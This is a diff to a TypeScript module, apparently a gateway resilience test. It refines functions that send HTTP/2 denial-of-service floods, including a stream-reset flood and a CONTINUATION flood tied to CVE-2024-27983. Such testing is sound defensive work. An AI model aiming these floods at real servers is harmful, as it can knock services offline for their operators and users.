@@ -31,7 +31,7 @@ export const ATTACKS: Readonly<Record<string, (scope: Scope, port: number) => Pr
       return Buffer.concat([headers(id, FIELDS), frame(TYPE.reset, 0, id, uint32(8))])
     })
     const bytes = Buffer.concat([HELLO, ...pairs])
-    for (let sent = 0; sent < RESETS; sent += PER_CONNECTION) await pour(scope, port, bytes)
+    for (let sent = 0; sent < RESETS; sent += PER_CONNECTION) await pour(scope, port, bytes, 'closed')
   },
   'CONTINUATION without end (CVE-2024-27983)': (scope, port) =>
     flood(scope, port, frame(TYPE.continuation, 0, 1, block([['x', 'y'.repeat(1_000)]])), headers(1, FIELDS, 1)),
@@ -49,21 +49,26 @@ export const ATTACKS: Readonly<Record<string, (scope: Scope, port: number) => Pr
 
 async function flood(scope: Scope, port: number, unit: Buffer, first: Buffer = Buffer.alloc(0)): Promise<void> {
   const many = Buffer.concat(Array.from({ length: Math.ceil(FLOOD / unit.length) }, () => unit))
-  await pour(scope, port, Buffer.concat([HELLO, first, many]), false)
+  await pour(scope, port, Buffer.concat([HELLO, first, many]), 'unread')
 }
 
 /** Sends bytes until they are sent or the gateway ends the connection, or takes no more; then leaves. */
-async function pour(scope: Scope, port: number, bytes: Buffer, read = true): Promise<void> {
+async function pour(
+  scope: Scope,
+  port: number,
+  bytes: Buffer,
+  how: 'sent' | 'closed' | 'unread' = 'sent',
+): Promise<void> {
   const { socket } = await frameClient(scope, port)
-  if (!read) socket.pause()
+  if (how === 'unread') socket.pause()
   await new Promise<void>((resolve) => {
-    const stuck = setTimeout(resolve, 1_000)
+    const stuck = setTimeout(resolve, 500)
     const done = () => {
       clearTimeout(stuck)
       resolve()
     }
     socket.once('close', done)
-    socket.write(bytes, done)
+    socket.write(bytes, how === 'closed' ? undefined : done)
   })
   socket.destroy()
 }
